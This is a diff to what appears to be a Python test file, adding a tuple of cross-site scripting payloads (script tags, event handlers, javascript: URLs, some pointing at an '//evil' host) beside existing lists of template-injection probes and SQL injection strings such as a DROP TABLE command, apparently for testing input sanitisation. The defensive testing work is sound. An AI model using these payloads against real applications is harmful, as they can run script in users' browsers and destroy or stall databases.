@@ -15,6 +15,25 @@ from sqlalchemy import Engine, event
 
 from tests.drills import trials
 
+# Joined by blanks to lines as long as a name may be.
+XSS = (
+    '<script>alert(1)</script> "><img src=x onerror=alert(1)> '
+    """'><svg/onload=alert(1)> </dd><script>1</script> \\"-alert(1)//""",
+    "<iframe src=javascript:alert(1)> javascript:alert(1) <a "
+    "href='javascript:1'>x</a> <body onload=1> &lt;script&gt; <!--",
+    "<style>*{background:url(//evil)}</style> ]]> "
+    "<math><mtext></p><script>1 <input autofocus onfocus=1> <bdi> \u202e<b>",
+    "<details open ontoggle=alert(1)> {{7*7}} {% raw %} "
+    "<script\x0c>alert(1)</script> ＜script＞ %3Cscript%3E `${alert(1)}`",
+    "<object data=//evil> <link rel=stylesheet href=//evil> <meta "
+    "http-equiv=refresh content='0;//evil'> <base href=//evil>",
+    "<form action=//evil><button> "
+    "<textarea></textarea><script>1</script> <template><script>1</script></template> <marquee>",
+    """' onmouseover='1 " style="position:fixed" <video><source """
+    "onerror=1> <x contenteditable onblur=1> <svg><animate onbegin=1>",
+    "</title><script>1</script> <isindex "
+    "action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:1> </select><option> </table><form> -->",
+)  # fmt: skip
 TEMPLATES = ("{{7*7}}", "{% import os %}", "${7*7}", "#{7*7}", "{0.__class__}", "%s%n%x", "<%= 7*7 %>", "{{config}}")
 _WRITTEN = (
     "' OR '1'='1", "'; DROP TABLE cases; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--",
